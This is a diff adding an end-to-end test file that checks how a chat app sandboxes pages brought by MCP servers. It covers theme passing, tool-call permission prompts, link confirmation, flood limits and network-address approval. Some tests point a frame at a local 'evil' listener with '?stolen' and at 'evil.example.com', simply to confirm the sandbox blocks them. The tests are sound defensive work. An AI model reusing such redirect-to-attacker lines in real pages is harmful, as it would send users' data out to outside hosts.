@@ -1,0 +1,188 @@
+/** Pages that servers bring along (MCP Apps), in a real window: the good one works, and the bad one gets nowhere. */
+import { createServer } from 'node:net'
+import type { AddressInfo } from 'node:net'
+import { join } from 'node:path'
+import type { Frame, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { answered, messageBox, newConversation, send, useOwnEndpoint } from '#test/e2e/chatActions'
+import { type ChatModel, startChatModel } from '#test/e2e/chatModel'
+import { openBrowser, openDesktop, type OpenedApp, type Opener } from '#test/e2e/openApp'
+import { addServer, chooseTheme, goTo } from '#test/e2e/pageActions'
+import { makeTemporaryFolder, type TemporaryFolder } from '#test/support/temporaryFolder'
+
+const servers = join(import.meta.dirname, '..', 'servers')
+
+/** Whatever connects to it, by any protocol. */
+async function startEvil() {
+  const heard: string[] = []
+  const server = createServer((socket) => {
+    heard.push('connected')
+    socket.on('data', (data) => heard.push(data.toString().split('\r\n')[0] ?? ''))
+    socket.on('error', () => {})
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    heard,
+    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
+  }
+}
+
+const hosts: readonly [string, Opener | null][] = [
+  ['the desktop app', await openDesktop()],
+  ['a browser', await openBrowser()],
+]
+
+afterAll(async () => {
+  for (const [, opener] of hosts) await opener?.close()
+})
+
+const apps = (page: Page) => page.locator('[data-app="shown"]')
+
+async function pageOf(page: Page): Promise<Frame> {
+  const element = await apps(page).last().locator('iframe').elementHandle()
+  const frame = await element?.contentFrame()
+  if (frame === null || frame === undefined) throw new Error('there is no frame')
+  return frame
+}
+
+async function show(page: Page, name: string, inBrowser: boolean): Promise<void> {
+  await newConversation(page)
+  await send(page, `show_${name}`)
+  await page.getByRole('button', { name: 'Allow once' }).first().click()
+  await answered(page, 'It is shown.')
+  // A browser asks first: it has ways out that the desktop app has closed.
+  if (inBrowser) await page.getByRole('button', { name: 'Show pages of pages' }).click()
+}
+
+describe.each(hosts.filter((host): host is [string, Opener] => host[1] !== null))('in %s', (host, opener) => {
+  const inBrowser = host === 'a browser'
+  /** What was sent to it. A browser opens connections beforehand, and calls from a frame in a frame, with nothing in them. */
+  const sentToEvil = () => (inBrowser ? evil.heard.filter((line) => /^[A-Z]+ \//.test(line)) : evil.heard)
+  let folder: TemporaryFolder
+  let app: OpenedApp
+  let model: ChatModel
+  let evil: Awaited<ReturnType<typeof startEvil>>
+
+  beforeAll(async () => {
+    folder = await makeTemporaryFolder()
+    evil = await startEvil()
+    model = await startChatModel(({ text, results }) =>
+      results.length > 0 ? { text: 'It is shown.' } : { text: 'Look.', uses: [{ name: text, input: { start: 41 } }] },
+    )
+    app = await opener.open(folder.path)
+    const { page } = app
+    await goTo(page, 'Servers')
+    await addServer(page, 'Pages', [process.execPath, join(servers, 'uiApp.ts'), '--evil', evil.url])
+    await addServer(page, 'Echo', [process.execPath, join(servers, 'echo.ts')])
+    await goTo(page, 'Chat')
+    await useOwnEndpoint(page, model.url)
+  })
+  afterAll(async () => {
+    await app?.close()
+    await model?.close()
+    await evil?.close()
+    await folder.remove()
+  })
+
+  test('[R32] a page is told what its tool was given and answered, and how the window looks', async () => {
+    const { page } = app
+    await chooseTheme(page, 'Dark')
+    await show(page, 'counter', inBrowser)
+    const frame = await pageOf(page)
+    await frame.getByText('Count: 41').waitFor()
+    expect(await frame.locator('#input').innerText()).toBe('{"start":41}')
+    expect(await frame.locator('#theme').innerText()).toBe('dark')
+    await chooseTheme(page, 'Light')
+    await expect.poll(() => frame.locator('#theme').innerText()).toBe('light')
+    expect(model.asked.at(-1)?.tools.filter((name) => name.includes('bump'))).toEqual([])
+  })
+
+  test('[R32] it has no more room than others leave it', async () => {
+    const height = await apps(app.page)
+      .last()
+      .locator('iframe')
+      .evaluate((frame) => frame.getBoundingClientRect().height)
+    expect(height).toBe(640)
+  })
+
+  test('[R32] it calls a tool of its own server when a person allows it, as every call', async () => {
+    const { page } = app
+    const frame = await pageOf(page)
+    await frame.getByRole('button', { name: 'Add one' }).click()
+    await page.getByRole('button', { name: 'Deny', exact: true }).first().click()
+    await frame.getByText('Refused').waitFor()
+    await frame.getByRole('button', { name: 'Add one' }).click()
+    await page.getByRole('button', { name: 'Allow once' }).first().click()
+    await expect.poll(() => frame.locator('#count').innerText()).toBe('Count: 42')
+  })
+
+  test('[R32] a link is asked about, and words go into the box and no further', async () => {
+    const { page } = app
+    const frame = await pageOf(page)
+    await frame.getByRole('button', { name: 'Read more' }).click()
+    const guard = page.getByRole('dialog', { name: /example\.com/ })
+    expect(await guard.locator('[data-address]').innerText()).toBe('https://example.com/more')
+    await guard.getByRole('button', { name: 'Stay' }).click()
+    const before = model.asked.length
+    await frame.getByRole('button', { name: 'Say it' }).click()
+    await expect.poll(() => messageBox(page).inputValue()).toBe('a word of the page⟨202E⟩')
+    expect(model.asked).toHaveLength(before)
+    await messageBox(page).fill('')
+  })
+
+  test('[R32] a hostile page reaches nothing: no network, no window, no store, no other server', async () => {
+    const { page } = app
+    const address = page.url()
+    await show(page, 'hostile', inBrowser)
+    const frame = await pageOf(page)
+    await expect.poll(() => frame.locator('#found').innerText(), { timeout: 60_000 }).toContain('draftUnasked')
+    const found = JSON.parse(await frame.locator('#found').innerText()) as Record<string, { got?: string }>
+    expect(Object.entries(found).filter(([, { got }]) => got !== undefined)).toEqual([])
+    expect(Object.keys(found).length).toBeGreaterThan(30)
+    expect(await page.evaluate(`'hacked' in window`)).toBe(false)
+    expect(page.url().replace(/chat.*/, '')).toBe(address.replace(/chat.*/, ''))
+    expect(await messageBox(page).inputValue()).toBe('')
+    expect(sentToEvil()).toEqual([])
+  })
+
+  test('[R32] a page that goes elsewhere, even to its own document with other rights, is ended', async () => {
+    const { page } = app
+    const frame = await pageOf(page)
+    await frame.evaluate(`void setTimeout(() => (location.href = '${evil.url}/self?stolen'))`)
+    await show(page, 'hostile', inBrowser)
+    const other = await pageOf(page)
+    await other.evaluate(`void setTimeout(() => (location.search = '?connect=https%3A%2F%2Fevil.example.com'))`)
+    await page.getByText('It tried to go elsewhere and was ended.').waitFor()
+    expect(await apps(page).last().locator('iframe').count()).toBe(0)
+    expect(sentToEvil()).toEqual([])
+  })
+
+  test('[R32] a page that says too much is ended, and the window goes on', async () => {
+    const { page } = app
+    await show(page, 'flood', inBrowser)
+    await page.getByText('It said too much at once and was ended.').waitFor()
+    await messageBox(page).fill('still here')
+    expect(await messageBox(page).inputValue()).toBe('still here')
+    await messageBox(page).fill('')
+  })
+
+  test('[R32] a page that wants the web is shown only after a person saw the addresses, and only the web is among them', async () => {
+    const { page } = app
+    await show(page, 'networked', inBrowser)
+    const asked = page.getByRole('group', { name: 'Addresses that this page wants' })
+    await asked.waitFor()
+    expect(await asked.getByRole('listitem').allInnerTexts()).toEqual(['https://api.example.com'])
+    expect(await apps(page).last().locator('iframe').count()).toBe(0)
+    await asked.getByRole('button', { name: 'Show it without' }).click()
+    const frame = await pageOf(page)
+    await frame.getByText('Count: 41').waitFor()
+    expect(frame.url()).not.toContain('example.com')
+  })
+
+  test('[R32] what is not looked at any more is gone', async () => {
+    const { page } = app
+    await newConversation(page)
+    expect(page.frames()).toHaveLength(1)
+  })
+})
